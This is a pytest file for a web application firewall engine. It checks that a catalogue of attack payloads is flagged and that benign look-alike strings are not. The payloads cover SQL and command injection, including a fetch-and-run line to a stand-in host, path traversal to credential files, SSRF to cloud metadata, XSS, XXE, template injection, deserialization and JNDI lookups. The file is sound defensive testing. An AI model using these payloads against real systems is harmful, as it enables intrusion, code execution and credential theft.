"""Each attack class: attacks it must catch and near-miss benign values it must leave alone.

Examples are hand-written or small excerpts in the spirit of the public payload lists; the corpus
regression test (test_waf_corpus.py) measures the rates on thousands more.
"""

from __future__ import annotations

import pytest

from fnguard.guard.waf import Engine

ATTACKS = {
    "sqli": ["1' OR '1'='1", "admin'--", "1 UNION SELECT username, password FROM users--",
             "1; DROP TABLE users", "' AND SLEEP(5)--", "1) or pg_sleep(5)--", "-1/**/UNION/**/SELECT/**/1,2",
             "x' AND members.email IS NULL; --", "' waitfor delay '0:0:10'--", "1%27%20or%201%3D1--"],
    "nosqli": ['{"username": {"$ne": null}, "password": {"$ne": null}}', "user[$regex]=^adm",
               "'; return this.password.match(/.*/)//", "db.users.find({})"],
    "cmdi": ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://x.example/s|sh)", "&& net user x y /add",
             "() { :; }; /bin/bash -c id", "c'a't /e't'c/pa's'swd", "cat$IFS/etc/passwd", "%0Aid%0A"],
    "code_injection": ["__import__('os').system('id')", "require('child_process').execSync('id')",
                       "<?php system($_GET['c']); ?>", "eval(atob('YWxlcnQoMSk='))",
                       "java.lang.Runtime.getRuntime().exec('id')"],
    "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                       "....//....//etc/hosts", "/proc/self/environ", "/var/task/handler.py",
                       "../config.php", "..%2fapp.py", "C:/unattend.xml", "C:\\Windows\\win.ini", "file:///etc/passwd"],
    "rfi": ["/index.php?page=http://attacker.example/shell.txt?", "include=ftp://evil.example/x.php%00",
            "http://example.com/:x@evil.example/", "https://example.com.evil.example/"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/",
             "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://[::ffff:169.254.169.254]/",
             "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", "gopher://127.0.0.1:6379/_INFO",
             "http://169.254.169.254.nip.io/", "dict://localhost:11211/stat", "http://metadata.google.internal/"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
            "\"><svg/onload=confirm(1)>", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E"],
    "xxe": ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]>'],
    "ssti": ["{{7*7}}", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
             "${T(java.lang.Runtime).getRuntime().exec('id')}", "<%= 7*7 %>", "{% for x in ().__class__.__base__.__subclasses__() %}"],
    "deserialization": ["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "!!python/object/apply:os.system ['id']",
                        "cos\nsystem\n(S'id'\ntR.", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
                        '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
                        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
                        "Y29zCnN5c3RlbQooUydpZCcKdFIu"],
    "jndi": ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:${lower:l}dap://x.example/a}",
             "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"],
    "prototype_pollution": ['{"__proto__": {"isAdmin": true}}', "a[__proto__][polluted]=1",
                            '{"constructor": {"prototype": {"shell": "node"}}}'],
    "orm_injection": ['{"user__password__startswith": "a"}'],
}

BENIGN = [
    "O'Reilly", "bob's or alice's", "35% COTTON AND 65% POLYESTER", "select x from y where", "Tom & Jerry",
    "I'd rather -- honestly -- not", "https://example.com/search?q=blue+shoes&page=2", "tasks/handler.py",
    "uploads/2024/06/cat.jpg", "the cat sat on the mat", "user@example.com", "(555) 123-4567",
    "price >= 10 and price <= 20", "C'est la vie", "2 + 2 = 4", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
    "Traceback (most recent call last):\n  File \"/var/task/app.py\", line 3, in handler",
    '{"query": "query ($id: ID!) { product(id: $id) { id name } }"}', "http://www.example.com/some/path",
    "arn:aws:lambda:us-east-1:123456789012:function:orders", "USER#42", "rate(5 minutes)", "cron(0 12 * * ? *)",
    "The union of two sets", "Please update my address", "Ping me when you're back",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "192.168.0.1/32", "127.0.0.1", "dir=asc&sort=name",
    "https://medium.com/@someone/a-post-1234", "https://shop.example.com.au/cart", "<p>Hello <b>world</b></p>",
    "../images/logo.png", "see ../README.md for details", "${HOME}/bin", "Dear <%= name %>,", "The system(s) are down",
    "C:\\Users\\me\\report.txt", "Hello {{ user.first_name }}",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "https://example.com/login?redirect=https%3A%2F%2Fexample.org%2Fhome", "/home/user/docs/report.pdf",
    "rm old files", "whoami: I'm Bob", "https://app.example.com/cb?url=https://example.org/x", 'He said: "drop it"',
]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


@pytest.mark.parametrize(("attack_class", "payload"), [(c, p) for c, ps in ATTACKS.items() for p in ps])
def test_attack_is_detected_in_its_class(engine: Engine, attack_class: str, payload: str) -> None:
    found = {d.attack_class for d in engine.inspect(payload).detections}
    assert attack_class in found, f"{payload!r} flagged as {found or 'nothing'}"


@pytest.mark.parametrize("value", BENIGN)
def test_benign_value_is_not_flagged(engine: Engine, value: str) -> None:
    assert engine.inspect(value).detections == (), value
